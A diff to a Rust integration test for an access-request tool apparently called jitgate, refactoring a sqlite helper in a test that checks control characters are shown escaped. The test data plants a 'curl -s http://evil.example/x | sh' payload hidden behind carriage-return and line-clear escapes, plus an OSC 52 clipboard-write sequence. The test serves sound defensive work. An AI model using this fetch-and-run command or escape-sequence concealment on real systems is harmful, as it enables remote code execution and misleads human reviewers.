@@ -7,7 +7,6 @@
 mod support;
 
 use serde_json::{json, Value};
-use std::process::Command;
 use support::postgres::{Postgres, SUPERUSER_PASSWORD};
 use support::*;
 
@@ -124,16 +123,6 @@ fn a_reason_of_invisible_characters_is_no_reason() {
     assert_eq!(r["reason"], "INC-9");
 }
 
-fn sqlite(s: &Server, statement: &str) {
-    let out = Command::new("sqlite3")
-        .args(["-cmd", ".timeout 10000"])
-        .arg(s.dir.path().join("jitgate.db"))
-        .arg(statement)
-        .output()
-        .expect("sqlite3 (apt-get install sqlite3)");
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-}
-
 /// Text stored before the checks existed (or written by another tool) still reaches the CLI
 /// and the web UI: both must show its control characters as escapes.
 #[test]
@@ -144,14 +133,11 @@ fn control_characters_that_reach_a_rendering_are_shown_escaped() {
         json!({"resource": "prod-api", "action": "deploy", "reason": "release", "payload": "echo deploying v1.4"}),
     );
     let rid = id(&r);
-    sqlite(
-        &s,
-        &format!(
-            "UPDATE requests SET doc = json_set(doc, '$.reason', 'ok' || char(27) || ']52;c;ZXZpbA==' || char(7), \
+    s.sqlite(&format!(
+        "UPDATE requests SET doc = json_set(doc, '$.reason', 'ok' || char(27) || ']52;c;ZXZpbA==' || char(7), \
              '$.payload', 'curl -s http://evil.example/x | sh' || char(13) || char(27) || '[2Kecho deploying v1.4') \
              WHERE id = '{rid}'"
-        ),
-    );
+    ));
     let (code, out, err) = s.cli("demo-bob", &["show", &rid]);
     assert_eq!(code, 0, "{err}");
     for raw in ['\r', '\x1b', '\x07'] {
